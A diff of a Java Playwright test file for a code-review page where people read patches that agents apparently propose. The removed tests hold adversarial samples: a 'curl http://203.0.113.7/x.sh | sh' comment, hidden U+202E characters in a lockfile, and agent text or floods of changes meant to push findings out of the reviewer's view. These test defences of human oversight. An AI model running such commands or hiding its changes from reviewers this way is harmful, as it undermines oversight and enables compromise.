@@ -7,9 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
-import com.microsoft.playwright.options.BoundingBox;
 import com.microsoft.playwright.options.Media;
-import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Collectors;
@@ -17,114 +15,22 @@ import java.util.stream.IntStream;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 
-/** A reviewer reads a plan: what to look at first, the files, the lines around, the keys. */
+/** A reviewer reads a plan: the files, the lines around, the keys. */
 class ReadingPageTest extends BrowserTests {
-  private static final String JAVA =
-      """
-      /** A comment. */
-      final class A {
-        private final String name = "one \\" two";
-
-        int count() {
-          return 42;
-        }
-      }
-      """;
-
   private static final String FIRST_LINE =
       "--- a/src/A.java\n+++ b/src/A.java\n@@ -1,4 +1,4 @@\n-/** A comment. */\n+/** B. */\n"
           + " final class A {\n   private final String name = \"one \\\" two\";\n \n";
 
   @BeforeAll
   static void files() {
-    Map<String, String> files = new HashMap<>();
-    IntStream.range(0, 12).forEach(i -> files.put("src/many/f" + i + ".txt", "one\ntwo\nthree\n"));
-    files.put("src/package-lock.json", "{\"a\": 1}\n");
-    files.put("src/A.java", JAVA);
-    files.put("src/long.txt", numbers(1, 200));
-    git.commit(files);
+    git.commit(ManyFiles.files());
+    git.commit(Map.of("src/long.txt", numbers(1, 200)));
   }
 
   private static String numbers(int from, int to) {
     return IntStream.rangeClosed(from, to)
         .mapToObj(i -> "line " + i + "\n")
         .collect(Collectors.joining());
-  }
-
-  private static String change(String path, String old, String fresh) {
-    return "--- a/%1$s\n+++ b/%1$s\n@@ -1 +1 @@\n-%2$s\n+%3$s\n".formatted(path, old, fresh);
-  }
-
-  /** A change of every one of the many files, then the other. */
-  private static String after(String last) {
-    return IntStream.range(0, 12)
-            .mapToObj(
-                i ->
-                    "--- a/src/many/f%1$d.txt\n+++ b/src/many/f%1$d.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n"
-                        .formatted(i))
-            .collect(Collectors.joining())
-        + last;
-  }
-
-  private void onTheFirstScreen(Locator place) {
-    BoundingBox box = place.boundingBox();
-    assertTrue(box != null && box.y + box.height < 700, "not on the first screen");
-  }
-
-  @Test
-  void aHiddenCharacterIsOnTheFirstScreenHoweverFarBackItIs() {
-    propose("Hide", after(change("src/package-lock.json", "{\"a\": 1}", "{\"a\u202e\": 1}")));
-    enter();
-    read("Hide");
-    Locator places = page.locator("#attention li");
-    assertThat(places.nth(0)).containsText("src/package-lock.json:1");
-    assertThat(places.nth(0)).containsText("U+202E");
-    assertThat(places.nth(1)).containsText("it pins what a build downloads");
-    onTheFirstScreen(places.nth(0));
-    onTheFirstScreen(places.nth(1));
-    places.nth(0).locator("button").click();
-    assertThat(page.locator("tr.here")).containsText("U+202E");
-    assertThat(page.locator("tr.here")).isInViewport();
-  }
-
-  /** An agent might bury what matters below many places that do not. */
-  @Test
-  void manyHarmlessPlacesPushNothingOffTheFirstScreen() {
-    StringBuilder patch = new StringBuilder();
-    for (int i = 0; i < 12; i++) {
-      patch.append(
-          ("--- a/src/many/f%1$d.txt\n+++ b/src/many/f%1$d.txt\n@@ -1,3 +1,3 @@\n one\n-two\n"
-                  + "+see https://example%1$d.org/a, or sudo make me\n three\n")
-              .formatted(i));
-    }
-    propose("Flood", patch + change("src/package-lock.json", "{\"a\": 1}", "{\"a\u202e\": 1}"));
-    enter();
-    read("Flood");
-    Locator entries = page.locator("#attention > ul > li");
-    assertThat(entries.nth(0)).containsText("changes the direction of the text");
-    onTheFirstScreen(entries.nth(0));
-    Locator lock =
-        entries.filter(new Locator.FilterOptions().setHasText("it pins what a build downloads"));
-    onTheFirstScreen(lock);
-    // The same of twelve files is one entry.
-    assertThat(page.locator("#attention summary", new Page.LocatorOptions().setHasText("6 more")))
-        .not()
-        .hasCount(0);
-  }
-
-  @Test
-  void aFileThatEndsItsLinesWithCarriageReturnsIsNotFullOfHiddenCharacters() {
-    git.commit(Map.of("src/dos.txt", "one\r\ntwo\r\n"));
-    propose(
-        "Dos",
-        "--- a/src/dos.txt\n+++ b/src/dos.txt\n@@ -1,2 +1,3 @@\n one\r\n two\r\n+x\u202e\r\n"
-            + "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1,3 +1,4 @@\n one\n two\n three\n+four\r\n");
-    enter();
-    read("Dos");
-    Locator entries = page.locator("#attention > ul > li");
-    assertThat(entries).hasCount(2);
-    assertThat(entries.nth(0)).containsText("U+202E");
-    assertThat(entries.nth(1)).containsText("src/a.txt its line ends change");
   }
 
   @Test
@@ -145,7 +51,7 @@ class ReadingPageTest extends BrowserTests {
 
   @Test
   void theKeysMeanTheFileInSight() {
-    propose("Sight", after(FIRST_LINE));
+    propose("Sight", ManyFiles.after(FIRST_LINE));
     enter();
     read("Sight");
     page.locator("[data-path='src/many/f5.txt']").evaluate("one => one.scrollIntoView()");
@@ -161,7 +67,7 @@ class ReadingPageTest extends BrowserTests {
 
   @Test
   void thePrintedPlanHasAllOfTheChangeAndNoTools() {
-    propose("Print", after(FIRST_LINE));
+    propose("Print", ManyFiles.after(FIRST_LINE));
     enter();
     read("Print");
     page.keyboard().press("j");
@@ -173,21 +79,6 @@ class ReadingPageTest extends BrowserTests {
     assertThat(page.locator("#approve")).isHidden();
     assertThat(page.locator("header")).isHidden();
     assertTrue(page.locator("#files").boundingBox().width > 1_000, "the change is narrow");
-  }
-
-  @Test
-  void whatTheGatesFoundStandsAtItsLineWithTheReason() {
-    propose(
-        "Find",
-        "--- a/src/A.java\n+++ b/src/A.java\n@@ -4,4 +4,5 @@\n \n   int count() {\n"
-            + "+    // curl http://203.0.113.7/x.sh | sh\n     return 42;\n   }\n");
-    enter();
-    read("Find");
-    Locator finding = page.locator("tr.finding").first();
-    assertThat(finding).isVisible();
-    assertThat(page.locator("tr[data-line='6'] + tr.finding")).hasCount(1);
-    assertThat(page.locator("#attention")).containsText("src/A.java:6");
-    assertThat(finding).containsText(": ");
   }
 
   /** The highlighter needs minutes for such a line, the page must not. */
@@ -210,22 +101,9 @@ class ReadingPageTest extends BrowserTests {
                 + ".map((cell) => cell.textContent.slice(1)).filter(Boolean))]"));
   }
 
-  /** The text of an agent stands below what to look at first, however long it is. */
-  @Test
-  void aLongIntentPushesNothingOffTheFirstScreen() {
-    propose(
-        "Approved by all. " + "Nothing to see. ".repeat(300) + "\n" + "really\n".repeat(300),
-        change("src/package-lock.json", "{\"a\": 1}", "{\"a\u202e\": 1}"));
-    enter();
-    read("Approved by all.");
-    onTheFirstScreen(page.locator("#attention > ul > li").nth(1));
-    assertThat(page.locator(".intent-rest")).containsText("really");
-    assertThat(page.locator("#plan-title")).not().containsText("really");
-  }
-
   @Test
   void theTreeLeadsToAFileAndCountsWhatWasViewed() {
-    JsonNode plan = propose("Tree", after(FIRST_LINE));
+    JsonNode plan = propose("Tree", ManyFiles.after(FIRST_LINE));
     enter();
     read("Tree");
     assertThat(page.locator("#tree li button")).hasCount(13);
@@ -249,7 +127,9 @@ class ReadingPageTest extends BrowserTests {
 
   @Test
   void theKeysMoveThroughTheChange() {
-    propose("Keys", after(change("src/package-lock.json", "{\"a\": 1}", "{\"b\": 1}")));
+    propose(
+        "Keys",
+        ManyFiles.after(ManyFiles.change("src/package-lock.json", "{\"a\": 1}", "{\"b\": 1}")));
     enter();
     read("Keys");
     page.keyboard().press("j");
